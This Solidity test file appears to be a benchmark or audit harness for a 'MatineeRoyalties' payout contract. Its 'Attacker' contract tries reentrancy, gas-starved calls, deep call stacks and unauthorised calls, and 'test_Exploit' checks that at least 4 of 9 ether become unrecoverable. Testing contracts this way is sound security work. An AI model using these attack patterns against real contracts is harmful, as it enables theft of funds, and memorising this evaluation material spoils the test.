pragma solidity 0.5.17;

import "./MatineeRoyalties.sol";

// assay-canary-4058f08e-09f2-469b-a5f3-b418af8597df

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
}

/// An actor's wallet that writes down what it gets, which takes more gas than some senders give.
contract Wallet {
    uint256 public got;
    uint256 public times;

    function() external payable {
        got += msg.value;
        times++;
    }

    function take(MatineeRoyalties royalties) external {
        royalties.take(address(this));
    }

    function change(MatineeRoyalties royalties, address payable to) external {
        royalties.changeAccount(to);
    }
}

/// A token of changing manners.
contract Reel {
    uint256 internal manner;

    function set(uint256 manner_) external {
        manner = manner_;
    }

    function() external {
        bool asked = msg.sig == bytes4(keccak256("balanceOf(address)"));
        uint256 how = manner;
        if (asked && how == 3 || !asked && how == 2) {
            assembly {
                mstore(0, 1)
                revert(0, 32)
            }
        }
        uint256 size = asked && how == 4 ? 64 : !asked && how == 5 ? 0 : 32;
        uint256 answer = !asked && how == 1 ? 0 : 1;
        assembly {
            mstore(0, answer)
            return(0, size)
        }
    }
}

contract Attacker {
    MatineeRoyalties internal royalties;

    constructor(MatineeRoyalties royalties_) public {
        royalties = royalties_;
    }

    function() external payable {
        _try(abi.encodeWithSelector(royalties.payOut.selector, 0, 100), gasleft());
    }

    function _try(bytes memory data, uint256 gas_) internal returns (bool ok) {
        (ok, ) = address(royalties).call.gas(gas_)(data);
    }

    function run() external {
        // with little gas, so that a payment inside may run short
        for (uint256 g = 30000; g <= 90000; g += 4000) {
            _try(abi.encodeWithSelector(royalties.payOut.selector, 1, 1), g);
        }
        // one name, all names, more than there are, again, and of a performance there was not
        _try(abi.encodeWithSelector(royalties.payOut.selector, 0, 0), gasleft());
        _try(abi.encodeWithSelector(royalties.payOut.selector, 0, 1), gasleft());
        _try(abi.encodeWithSelector(royalties.payOut.selector, 0, uint256(-1)), gasleft());
        _try(abi.encodeWithSelector(royalties.payOut.selector, 0, 4), gasleft());
        _try(abi.encodeWithSelector(royalties.payOut.selector, 1, 100), gasleft());
        _try(abi.encodeWithSelector(royalties.payOut.selector, 2, 1), gasleft() / 2);
        // deep in the stack of calls
        dive(60);
        // a place, a pigeonhole and tokens of others
        _try(abi.encodeWithSelector(royalties.changeAccount.selector, address(this)), gasleft());
        _try(abi.encodeWithSelector(royalties.take.selector, address(this)), gasleft());
        _try(abi.encodeWithSelector(royalties.forwardToken.selector, address(royalties)), gasleft());
        _try(abi.encodeWithSelector(royalties.addToBill.selector, address(this), 5000), gasleft());
    }

    function dive(uint256 depth) public {
        if (depth == 0) {
            _try(abi.encodeWithSelector(royalties.payOut.selector, 1, 100), gasleft());
            return;
        }
        (bool ok, ) = address(this).call(abi.encodeWithSelector(this.dive.selector, depth - 1));
        ok;
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    MatineeRoyalties private royalties;
    Wallet private lear;
    Wallet private regan;
    Attacker private claque;
    address payable private constant KENT = address(0x4E27);

    function() external payable {}

    function setUp() public {
        vm.deal(address(this), 20 ether);
        royalties = new MatineeRoyalties();
        lear = new Wallet();
        regan = new Wallet();
        royalties.addToBill(address(lear), 50);
        royalties.addToBill(KENT, 20);
        royalties.addToBill(address(regan), 30);
        royalties.closeBill();
        royalties.play.value(6 ether)();
        royalties.play.value(3 ether)();
        claque = new Attacker(royalties);
    }

    function test_Regular() public {
        (bool ok, ) = address(royalties).call(abi.encodeWithSelector(royalties.addToBill.selector, address(1), 1));
        require(!ok, "closed");
        // Lear and Regan have their payments sent to plain accounts
        lear.change(royalties, address(0x1EA4));
        regan.change(royalties, address(0x4E6A));
        (ok, ) = address(lear).call(abi.encodeWithSelector(lear.change.selector, royalties, address(0x1EA5)));
        require(!ok, "no place any more");
        royalties.payOut(0, 1);
        require(address(0x1EA4).balance == 3 ether && KENT.balance == 0, "one name");
        royalties.payOut(0, 9);
        require(KENT.balance == 1.2 ether && address(0x4E6A).balance == 1.8 ether, "the others");
        (ok, ) = address(royalties).call(abi.encodeWithSelector(royalties.payOut.selector, 0, 1));
        require(!ok, "paid out");
        royalties.play.value(0.0000000000000001 ether)();
        royalties.payOut(2, 3);
        require(KENT.balance == 1.2 ether + 20, "points");
        royalties.payOut(1, 3);
        require(address(royalties).balance == royalties.pigeonholes(), "books");
        (uint256 names, uint256 played) = royalties.counts();
        require(names == 3 && played == 3, "counts");
    }

    /// What the three have got, can take, and will be paid.
    function recoverable() public view returns (uint256 sum) {
        address payable[3] memory company = [address(lear), KENT, address(regan)];
        for (uint256 i = 0; i < 3; i++) {
            sum += company[i].balance + royalties.pigeonhole(company[i]);
            sum += royalties.outstanding(0, i) + royalties.outstanding(1, i);
        }
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts.
    function refuses(address who) internal {
        vm.prank(who);
        vm.expectRevert();
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The bill is the producer's, and open for a while.
    function test_RefusesTheBill() public {
        MatineeRoyalties next = new MatineeRoyalties();
        vm.expectRevert("nobody on it");
        next.closeBill();
        refuses(KENT, "stage door");
        next.addToBill(KENT, 1);
        vm.expectRevert("on the bill");
        next.addToBill(address(0), 1);
        next.addToBill(KENT, 1);
        vm.expectRevert("on the bill");
        next.addToBill(KENT, 1);
        vm.expectRevert("points");
        next.addToBill(address(1), 0);
        vm.expectRevert("points");
        next.addToBill(address(1), 10001);
        refuses(KENT, "stage door");
        next.closeBill();
        vm.expectRevert("bill is open");
        next.play.value(1)();
        for (uint160 i = 1; i < 60; i++) next.addToBill(address(0x1000 + i), 1);
        vm.expectRevert("bill is full");
        next.addToBill(address(1), 1);
    }

    /// Places change hands once, to somebody who has none.
    function test_RefusesPlaces() public {
        vm.expectRevert("not on the bill");
        royalties.changeAccount(address(0x99));
        refuses(KENT, "taken");
        royalties.changeAccount(address(0));
        refuses(KENT, "taken");
        royalties.changeAccount(address(lear));
    }

    /// Takings are something, and a pigeonhole pays what is in it.
    function test_RefusesTakings() public {
        vm.expectRevert("takings");
        royalties.play();
        vm.deal(address(this), 2**129);
        vm.expectRevert("takings");
        royalties.play.value(2**128)();
        refuses(KENT, "empty");
        royalties.take(KENT);
    }

    /// Tokens go to the producer, by hand of the producer, and only where there are any.
    function test_RefusesTokens() public {
        Reel reel = new Reel();
        refuses(KENT, "stage door");
        royalties.forwardToken(address(reel));
        royalties.forwardToken(address(reel));
        reel.set(1);
        vm.expectRevert("not forwarded");
        royalties.forwardToken(address(reel));
        reel.set(2);
        vm.expectRevert("not forwarded");
        royalties.forwardToken(address(reel));
        reel.set(3);
        vm.expectRevert("no token");
        royalties.forwardToken(address(reel));
        reel.set(4);
        vm.expectRevert("no token");
        royalties.forwardToken(address(reel));
        reel.set(5);
        royalties.forwardToken(address(reel));
    }

    /// A pigeonhole whose owner takes no ether keeps it.
    function test_RefusesWhatIsNotTaken() public {
        address payable reel = address(uint160(address(new Reel())));
        MatineeRoyalties next = new MatineeRoyalties();
        next.addToBill(reel, 1);
        next.closeBill();
        next.play.value(1 ether)();
        next.payOut(0, 1);
        refuses(reel);
        next.take(reel);
    }

    function exploit() public {
        claque.run();
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(before == 9 ether && recoverable() <= 5 ether, "all is there");
    }

    function target() public view returns (address) {
        return address(royalties);
    }

    function attacker() public view returns (address) {
        return address(claque);
    }
}
